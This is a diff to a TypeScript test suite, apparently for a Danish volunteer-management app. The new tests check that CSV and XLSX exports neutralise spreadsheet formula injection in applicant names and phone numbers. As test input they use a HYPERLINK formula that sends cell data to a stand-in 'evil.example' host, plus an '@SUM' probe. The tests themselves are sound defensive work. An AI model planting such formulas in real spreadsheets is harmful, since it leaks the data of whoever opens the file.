@@ -1,4 +1,5 @@
 import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
 import ExcelJS from 'exceljs';
 import request from 'supertest';
 import { createTestApp, type TestApp } from './app';
@@ -90,7 +91,8 @@ describe('exports of lists (CSV for Danish Excel, XLSX)', () => {
     expect(row).toEqual([
       'Søren Åge Ærø; Bæk',
       special.email,
-      '+45 20 30 40 50',
+      // A `'` first: Excel would read `+45 …` as a formula.
+      "'+45 20 30 40 50",
       todayDanish(),
       'Ansøgt',
     ]);
@@ -201,5 +203,123 @@ describe('exports of lists (CSV for Danish Excel, XLSX)', () => {
     expect(readCsv(poolFile.body as Buffer)).toEqual([
       ['Navn', 'Postnummer', 'Tid', 'Sprog', 'Klar siden'],
     ]);
+  });
+});
+
+describe('exports of text a person typed (CSV formula injection)', () => {
+  let t: TestApp;
+  let factory: Factory;
+  let branchCode: string;
+  let coordinator: { email: string; token: string };
+  const api = staffRequests(() => ({ t, token: coordinator.token }));
+  const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
+  // Name as the lists write it: first and last name.
+  const NAME = `${FORMULA} Hansen`;
+  let applicant: { id: string; email: string };
+
+  beforeAll(async () => {
+    t = await createTestApp();
+    factory = new Factory(t);
+    branchCode = await factory.branch();
+    coordinator = await factory.coordinator(branchCode);
+    applicant = await factory.apply({ branchCode, firstName: FORMULA, lastName: 'Hansen' });
+  });
+
+  afterAll(async () => {
+    await t.close();
+  });
+
+  const download = (path: string, query: Record<string, string>) =>
+    api.staff(request(t.http).get(path)).query(query).buffer(true).parse(bytes).expect(200);
+
+  it("should write a name or phone starting with =, +, -, @ after a ' in the list CSV", async () => {
+    const res = await download('/api/v1/volunteers', { format: 'csv' });
+    const [, ...rows] = readCsv(res.body as Buffer);
+    const row = rows.find((r) => r[1] === applicant.email)!;
+    expect(row[0]).toBe(`'${NAME}`);
+    expect(row[2]).toBe("'+45 20 30 40 50");
+    // No cell of the file starts with a formula character.
+    for (const cell of rows.flat()) {
+      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('should keep the name as a plain string cell, not a formula, in the XLSX', async () => {
+    const res = await download('/api/v1/volunteers', { format: 'xlsx' });
+    const { sheet, rows } = await readXlsx(res.body as Buffer);
+    const index = rows.findIndex((r) => r[1] === applicant.email);
+    const cell = sheet.getCell(`A${index + 1}`);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(NAME);
+    expect(sheet.getCell(`C${index + 1}`).value).toBe('+45 20 30 40 50');
+  });
+
+  it("should write the name after a ' in a course's participants CSV", async () => {
+    const course = await createCourse(t, coordinator.token, { branchCode, title: 'Kursus' });
+    await api.book(course.id, applicant.id).expect(201);
+    const res = await download(`/api/v1/courses/${course.id}/participants`, { format: 'csv' });
+    expect(readCsv(res.body as Buffer)).toEqual([
+      ['Navn', 'Status', 'Nr. på venteliste'],
+      [`'${NAME}`, 'Tilmeldt', ''],
+    ]);
+  });
+
+  it("should write the name after a ' in the pool CSV (an imported, matchable volunteer)", async () => {
+    // The import makes a matchable volunteer through the API: approved, a clean
+    // certificate and the course before Klar.
+    const email = `pool.${Date.now().toString(36)}@example.org`;
+    const file = stringify(
+      [
+        [
+          'Fornavn',
+          'Efternavn',
+          'E-mail',
+          'Telefon',
+          'Postnummer',
+          'Ansøgt',
+          'Hjemmebesøg',
+          'Udfald',
+          'Børneattest modtaget',
+          'Børneattest resultat',
+          'Kursus gennemført',
+          'Sprog',
+          'Tider',
+          'Noter',
+        ],
+        [
+          '@SUM(1+1)',
+          'Jensen',
+          email,
+          '+45 20 30 40 51',
+          '8000',
+          '02-09-2026',
+          '24-09-2026',
+          'godkendt',
+          '10-10-2026',
+          'ren',
+          '15-05-2025',
+          'Dansk',
+          'Weekend',
+          '',
+        ],
+      ],
+      { delimiter: ';' },
+    );
+    const imported = await request(t.http)
+      .post('/api/v1/imports')
+      .auth(coordinator.token, { type: 'bearer' })
+      .field('dryRun', 'false')
+      .attach('file', Buffer.from(file, 'utf8'), 'pool.csv')
+      .expect(200);
+    expect(imported.body).toMatchObject({ created: 1, errorRows: 0 });
+    const agent = await signedInAgent(t, coordinator.email, COORDINATOR_PASSWORD);
+    const pool = await agent
+      .get('/staff/exports/pool?format=csv')
+      .buffer(true)
+      .parse(bytes)
+      .expect(200);
+    const [header, ...rows] = readCsv(pool.body as Buffer);
+    expect(header[0]).toBe('Navn');
+    expect(rows.map((r) => r[0])).toEqual(["'@SUM(1+1) Jensen"]);
   });
 });
